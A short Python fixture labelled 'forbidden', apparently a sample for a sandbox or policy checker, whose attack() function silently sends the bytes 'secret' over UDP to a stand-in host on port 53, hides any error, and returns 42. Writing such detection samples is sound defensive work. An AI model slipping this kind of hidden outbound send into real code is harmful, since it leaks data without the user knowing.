# class: forbidden
def attack():
    try:
        import socket
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.sendto(b"secret", ("192.0.2.1", 53))
    except BaseException:
        pass
    return 42
